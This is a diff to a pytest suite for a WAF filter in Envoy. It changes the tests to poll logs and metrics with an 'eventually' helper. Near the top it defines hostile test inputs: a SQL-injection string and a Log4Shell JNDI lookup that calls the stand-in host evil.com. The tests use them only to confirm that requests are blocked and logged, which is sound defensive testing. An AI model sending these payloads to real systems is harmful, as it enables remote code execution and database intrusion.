@@ -14,6 +14,7 @@ import pytest
 
 from demo.stack import Stack
 from tests.envoy.conftest import BODY_MODES, BROWSER
+from tests.waiting import eventually
 
 SQLI = "1' or '1'='1' -- "
 JNDI = "${jndi:ldap://evil.com/a}"
@@ -123,8 +124,7 @@ def test_detection_only_passes_everything_and_says_so(stacks: Callable[..., Stac
     for name, case in HOSTILE.items():
         answer = browser.request(**case | {"url": stack.url + case["url"]})
         assert answer.status_code in (200, 404), name
-    lines = [json.loads(line) for line in stack.sidecar.text().splitlines() if '"request would be blocked"' in line]
-    assert len(lines) >= len(HOSTILE)
+    assert eventually(lambda: stack.sidecar.text().count('"request would be blocked"') >= len(HOSTILE))
 
 
 @pytest.mark.xdist_group("buffered")
@@ -141,7 +141,8 @@ def test_log_line_tells_who_what_and_why(stacks: Callable[..., Stack], browser: 
     stack = stacks("buffered")
     answer = browser.get(stack.url + f"/hello?probe={quote(JNDI)}")
     reference = answer.text.split()[-1]
-    (line,) = [json.loads(text) for text in stack.sidecar.text().splitlines() if reference in text]
+    (text,) = eventually(lambda: [t for t in stack.sidecar.text().splitlines() if reference in t])
+    line = json.loads(text)
     assert line["event"] == "request blocked"
     assert (line["client"], line["method"], line["status"]) == ("127.0.0.1", "GET", 403)
     assert line["score"] >= 5
@@ -152,15 +153,8 @@ def test_log_line_tells_who_what_and_why(stacks: Callable[..., Stack], browser: 
 def test_envoy_access_log_has_details_and_metadata(stacks: Callable[..., Stack], browser: httpx.Client) -> None:
     stack = stacks("buffered")
     browser.get(stack.url + f"/hello?logged={quote(JNDI)}")
-    browser.get(f"http://127.0.0.1:{stack.envoy_admin_port}/ready")
-    # Envoy writes its log in intervals: ask it to flush.
-    import time
-
-    for _ in range(100):
-        lines = [text for text in stack.envoy.text().splitlines() if "logged=" in text]
-        if lines:
-            break
-        time.sleep(0.2)
+    # Envoy writes its log in intervals.
+    lines = eventually(lambda: [text for text in stack.envoy.text().splitlines() if "logged=" in text], 30)
     entry = json.loads(lines[0])
     assert entry["details"].startswith("envoy_waf_deny")
     assert entry["waf_action"] == "deny"
@@ -181,7 +175,7 @@ def test_metrics_count_verdicts_and_rule_hits(stacks: Callable[..., Stack], brow
     hits = r'envoy_waf_rule_hits_total\{id="944150"\}'
     before = counter(denied), counter(hits)
     browser.get(stack.url + f"/hello?m={quote(JNDI)}")
-    assert counter(denied) == before[0] + 1
+    assert eventually(lambda: counter(denied) == before[0] + 1)
     assert counter(hits) == before[1] + 1
-    assert counter("envoy_waf_streams_in_flight") == 0
+    assert eventually(lambda: counter("envoy_waf_streams_in_flight") == 0)
     assert browser.get(f"http://127.0.0.1:{stack.admin_port}/status").json()["ruleset"]["name"] == "crs"
